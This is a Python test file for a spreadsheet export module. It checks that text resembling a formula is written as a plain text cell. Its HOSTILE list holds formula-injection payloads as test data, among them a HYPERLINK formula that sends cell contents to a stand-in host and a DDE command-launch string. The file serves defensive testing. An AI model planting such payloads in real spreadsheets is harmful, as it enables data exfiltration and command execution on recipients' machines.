"""The one spreadsheet writer: text that looks like a formula stays text, in
every cell of every export (the exports' own tests call ``assert_all_text``)."""

import io
import zipfile
from datetime import date, datetime

from openpyxl import load_workbook

from civicgrid.lib import xlsx

# Each of these, typed into Excel or LibreOffice, would run as a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
]


def assert_all_text(content: bytes, planted=()) -> None:
    """No cell of any sheet is a formula or an error value, every string is a
    string cell, and each planted value comes back exactly as it was."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    workbook = load_workbook(io.BytesIO(content))
    found = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is None:
                    continue
                assert cell.data_type in ("s", "n", "d"), (cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.startswith(xlsx.FORMULA_STARTS):
                        assert cell.quotePrefix, cell.value
                    found.add(cell.value)
    # XML reads a carriage return back as a line feed.
    missing = [value for value in planted if value.replace("\r", "\n") not in found]
    assert not missing, missing


def test_hostile_text_is_written_as_text():
    workbook = xlsx.Workbook()
    sheet = workbook.sheet("表", widths=[10, 10], header=["=head", "名称"])
    sheet.append([*HOSTILE, 42, 1.5, date(2026, 1, 31), None])
    sheet.append(["bell\x07 and nul\x00 dropped", sheet.cell(0.25, number_format="0.0%")])
    content = workbook.to_bytes()
    assert_all_text(content, planted=[*HOSTILE, "=head", "bell and nul dropped"])
    values = list(load_workbook(io.BytesIO(content)).active.values)
    assert values[1][len(HOSTILE) : len(HOSTILE) + 3] == (42, 1.5, datetime(2026, 1, 31))
    assert values[2][1] == 0.25


def test_to_file_is_at_its_start():
    workbook = xlsx.Workbook()
    workbook.sheet("表").append(["=1"])
    file = workbook.to_file()
    assert_all_text(file.read(), planted=["=1"])
